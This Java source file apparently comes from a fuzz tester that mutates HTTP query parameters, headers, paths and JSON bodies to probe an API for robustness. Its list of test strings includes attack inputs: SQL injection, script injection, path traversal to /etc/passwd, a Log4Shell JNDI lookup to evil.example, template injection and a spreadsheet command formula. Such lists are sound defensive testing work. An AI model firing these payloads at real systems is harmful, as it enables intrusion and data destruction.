package org.isnad;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

/** Bends what is right in a request. */
final class Bent {

    /** Values that break something somewhere. */
    static final List<String> STRINGS = List.of("", " ", "0", "-1", "1", "2147483648", "9223372036854775808", "1e999", "NaN",
            "1.5", "true", "null", "undefined", "' or 1=1 --", "\"; drop table revision; --", "<script>alert(1)</script>",
            "../../etc/passwd", "..%2f", "%00", "\0", "\r\nX: y", "${jndi:ldap://evil.example/a}", "{{7*7}}",
            "=cmd|'/c calc'!A1",
            "السلطات الكازاخستانية", "\u202Egnp.exe\u202C", "\u0627\u0644\u0644\u0651\u0647\u064F", "Алма-Ата ё", "é",
            "e\u0301",
            "👩‍👩‍👧‍👦🇰🇿", "\uFEFFx", "\u200B", "\uD800", "\uFFFF", "a".repeat(101), "x".repeat(2_000), "2022-02-30",
            "0000-00-00", "9999-12-31T23:59:59Z", "+999999999-12-31", "2022-01-05T23:59:60Z", "2022-01-05T18:11+25:00",
            "24:00", "2022-W01", "kz-total-killed", "compare", "series", "@en", "1@", "/", "kz-mvd/1", "*", "xx-invalid-",
            "i-klingon",
            "x-private", "zh-Hant-CN-u-co-pinyin", "medtop:1", "javascript:alert(1)", "http://[::1", "urn:x", "data:,x");

    private static final List<String> HEADERS = List.of("Accept", "Accept-Language", "Accept-Datetime", "If-None-Match",
            "If-Match", "Idempotency-Key", "Content-Type", "X-Forwarded-For", "Range", "Prefer", "traceparent", "Origin",
            "X-HTTP-Method-Override");

    private final Random random;
    private final ObjectMapper mapper;

    Bent(Random random, ObjectMapper mapper) {
        this.random = random;
        this.mapper = mapper;
    }

    static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** Another parameter, or one too many, or too few; never a long wait. */
    void parameter(Map<String, List<String>> query) {
        List<String> names = new ArrayList<>(query.keySet());
        names.remove("wait");
        String name = names.isEmpty() ? "unknown" : names.get(random.nextInt(names.size()));
        switch (random.nextInt(4)) {
            case 0 -> query.remove(name);
            case 1 -> query.put(name, List.of("1", string()));
            case 2 -> query.put("n" + random.nextInt(9), List.of(string()));
            default -> query.put(name, List.of(string()));
        }
    }

    /** Another header; Java's client sends no control characters. */
    void header(Map<String, String> headers) {
        String value = string().replaceAll("[^ -~]", "");
        headers.put(HEADERS.get(random.nextInt(HEADERS.size())), value.isBlank() ? "," : value.strip());
    }

    /** What stands in a path; nothing that would be another path. */
    String place() {
        String place = string();
        return place.isBlank() || List.of("compare", "series", "stream").contains(place) ? "-" : place;
    }

    /** Other text, other JSON, or no JSON any more. */
    byte[] body(byte[] body) throws IOException {
        String text = new String(body, StandardCharsets.UTF_8);
        switch (random.nextInt(10)) {
            case 0:
                return Arrays.copyOf(body, random.nextInt(body.length + 1));
            case 1:
                byte[] broken = body.clone();
                if (broken.length > 0) {
                    broken[random.nextInt(broken.length)] = (byte) random.nextInt(256);
                }
                return broken;
            case 2:
                return List.of("[" + text + "]", "[]", "{}", "null", "7", "\"x\"", text + text, "[".repeat(60) + "]".repeat(60),
                        text.replaceFirst("\\{", "{\"x\":1,"), text.replaceFirst("\\{", "{\"source\":\"a\","))
                        .get(random.nextInt(10)).getBytes(StandardCharsets.UTF_8);
            default:
                return inside(text).getBytes(StandardCharsets.UTF_8);
        }
    }

    /** The same with one value changed, removed or put beside others, in its first line if it has several. */
    private String inside(String text) throws IOException {
        int end = text.indexOf('\n') < 0 ? text.length() : text.indexOf('\n');
        JsonNode tree;
        try {
            tree = mapper.readTree(text.substring(0, end));
        } catch (IOException e) {
            return text;
        }
        List<JsonNode> inner = new ArrayList<>();
        collect(tree, inner);
        if (inner.isEmpty()) {
            return text;
        }
        JsonNode parent = inner.get(random.nextInt(inner.size()));
        if (parent instanceof ObjectNode object) {
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            String name = names.isEmpty() || random.nextInt(8) == 0 ? string() : names.get(random.nextInt(names.size()));
            if (random.nextInt(4) == 0) {
                object.remove(name);
            } else {
                object.set(name, node());
            }
        } else if (parent instanceof ArrayNode array) {
            array.add(node());
        }
        return mapper.writeValueAsString(tree) + text.substring(end);
    }

    private static void collect(JsonNode node, List<JsonNode> inner) {
        if (node.isContainerNode()) {
            inner.add(node);
            node.forEach(child -> collect(child, inner));
        }
    }

    private JsonNode node() throws IOException {
        return switch (random.nextInt(8)) {
            case 0 -> mapper.nullNode();
            case 1 -> mapper.createObjectNode().put(string(), string());
            case 2 -> mapper.createArrayNode().add(string());
            case 3 -> mapper.getNodeFactory().numberNode(random.nextLong());
            case 4 -> mapper.getNodeFactory().numberNode(random.nextDouble());
            case 5 -> mapper.getNodeFactory().booleanNode(random.nextBoolean());
            default -> mapper.getNodeFactory().textNode(string());
        };
    }

    private String string() {
        return STRINGS.get(random.nextInt(STRINGS.size()));
    }
}
